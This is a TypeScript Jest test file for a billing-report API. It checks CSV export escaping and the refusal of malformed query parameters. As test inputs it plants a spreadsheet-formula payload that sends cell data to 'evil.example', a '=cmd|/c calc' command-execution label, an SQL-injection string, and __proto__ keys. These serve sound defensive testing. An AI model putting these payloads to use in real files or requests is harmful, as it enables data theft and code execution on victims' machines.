import { randomUUID } from 'node:crypto';
import { request } from 'node:http';
import { setClock } from '../medium/harness/clock';
import { makeLifecycle } from '../medium/harness/cluster-lifecycle';
import { NodeLives } from '../medium/harness/node-lives';
import { makeTenancy, type Tenancy } from '../medium/harness/records';
import { wholeApi } from '../medium/harness/test-api';

const BASE = '/platform/billing';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';

// Real: the whole API and PostgreSQL.
describe('billing reports', () => {
  const api = wholeApi();
  let token: string;
  let tenancy: Tenancy;

  beforeAll(async () => {
    token = await api.login();
    tenancy = await makeTenancy(api.database.manager, 'hostile');
    await api.database.query('UPDATE tenants SET name = $2 WHERE tenant_id = $1', [tenancy.tenantId, FORMULA]);
    const lives = new NodeLives(api.database, makeLifecycle(api.database));
    await setClock(api.database, new Date('2026-01-10T08:00:00Z'));
    const labels = { '=cmd|/c calc': '@SUM(A1)', __proto__: 'x', quote: '"\n,' };
    const nodeId = await lives.plan(tenancy, { labels });
    await lives.move(nodeId, 'RUNNING');
    await setClock(api.database, new Date('2026-01-10T09:00:00Z'));
    await lives.move(nodeId, 'DESTROYED');
  });

  const get = (path: string, query: Record<string, string>) =>
    api.call('GET', `${BASE}${path}?${String(new URLSearchParams(query))}`, { token });
  const january = { start_date: '2026-01-01', end_date: '2026-01-31' };

  it('contain no formula that a spreadsheet would run', async () => {
    const response = await fetch(api.urlOf(`${BASE}/usage?${String(new URLSearchParams(january))}`), {
      headers: { authorization: `Bearer ${token}`, accept: 'text/csv' },
    });
    const text = await response.text();
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(text).not.toMatch(/(^|,|\n)"?[=+\-@]/m);
    expect(text.trimEnd().split('\r\n')).toHaveLength(2);
  });

  it.each<[string, Record<string, string>, string]>([
    ['of a century', { start_date: '1970-01-01', end_date: '2069-12-31' }, 'BILLING.PERIOD_TOO_LONG'],
    ['of eight thousand years', { start_date: '1900-01-01', end_date: '9998-12-31' }, 'BILLING.PERIOD_TOO_LONG'],
    ['that ends before it starts', { start_date: '2026-01-02', end_date: '2026-01-01' }, 'BILLING.INVALID_PERIOD'],
    ['from a day that does not exist', { ...january, start_date: '2026-02-30' }, 'REQUEST.INVALID'],
    ['from the year 0', { ...january, start_date: '0000-01-01' }, 'REQUEST.INVALID'],
    ['until the last possible day', { ...january, end_date: '9999-12-31' }, 'REQUEST.INVALID'],
    ['from a time of day', { ...january, start_date: '2026-01-01T00:00:00Z' }, 'REQUEST.INVALID'],
    ['without an end', { start_date: '2026-01-01' }, 'REQUEST.INVALID'],
    ['for labels that are not JSON', { ...january, labels: 'team=a' }, 'BILLING.INVALID_LABELS'],
    ['for labels of deep JSON', { ...january, labels: '{"a":'.repeat(800) }, 'BILLING.INVALID_LABELS'],
    [
      'for labels of deep lists',
      { ...january, labels: `${'['.repeat(2_000)}${']'.repeat(2_000)}` },
      'BILLING.INVALID_LABELS',
    ],
    ['for labels with NUL', { ...january, labels: String.raw`{"a":"\u0000"}` }, 'BILLING.INVALID_LABELS'],
    ['for half of a character', { ...january, labels: String.raw`{"a":"\ud800"}` }, 'BILLING.INVALID_LABELS'],
    ['for endless labels', { ...january, labels: `{"a":"${'x'.repeat(5_000)}"}` }, 'REQUEST.INVALID'],
    ['for a tenant that is SQL', { ...january, tenant_ids: `' OR 1=1 --` }, 'REQUEST.INVALID'],
    ['for no tenant', { ...january, tenant_ids: '' }, 'REQUEST.INVALID'],
    ['for an unknown provider', { ...january, cloud_providers: 'Moon' }, 'REQUEST.INVALID'],
    ['for an impossible machine type', { ...january, machine_type_ids: '9223372036854775808' }, 'REQUEST.INVALID'],
  ])('%s are refused with a reason', async (_what, query, code) => {
    const { status, body } = await get('/usage', query);
    expect([status, body.error_code]).toEqual([400, code]);
    expect(body.error_message.length).toBeGreaterThan(20);
  });

  it('are empty for unknown tenants, clusters, machine types and labels', async () => {
    for (const query of [
      { tenant_ids: randomUUID() },
      { cluster_ids: '9007199254740991' },
      { machine_type_ids: '2147483647' },
      { labels: '{"__proto__":"y"}' },
    ] as Record<string, string>[])
      expect(await get('/usage', { ...january, ...query })).toMatchObject({ status: 200, body: [] });
    expect((await get('/date/range', { tenant_ids: randomUUID() })).status).toBe(404);
  });

  it('are empty for a machine type above the range of ids', async () => {
    expect(await get('/usage', { ...january, machine_type_ids: '9007199254740991' })).toMatchObject({
      status: 200,
      body: [],
    });
  });

  it('for a hundred thousand tenants are refused, and the API still serves other requests', async () => {
    const many = Array.from({ length: 100_000 }, () => randomUUID()).join(',');
    expect(await statusOf(`${BASE}/usage?start_date=2026-01-01&end_date=2026-01-31&tenant_ids=${many}`)).toBe(431);
    expect((await get('/usage', january)).status).toBe(200);
  });

  it('of costs are refused if no price is configured', async () => {
    const { status, body } = await get('/invoice', { start_month_year: '2026-01-01', end_month_year: '2026-01-01' });
    expect([status, body.error_code]).toEqual([400, 'BILLING.NO_UNIT_PRICE']);
    expect(body.error_message).toContain('BILLING_UNIT_PRICES');
    expect((await get('/clusters', { billing: 'invoice' })).body).toEqual([]);
  });

  /** Returns the status of the response, which may arrive while the client is still sending. */
  function statusOf(path: string): Promise<number> {
    return new Promise((resolve, reject) => {
      const asked = request(api.urlOf(path), { headers: { authorization: `Bearer ${token}` } }, (response) => {
        resolve(response.statusCode ?? 0);
        response.resume();
      });
      asked.on('error', reject);
      asked.end();
    });
  }
});
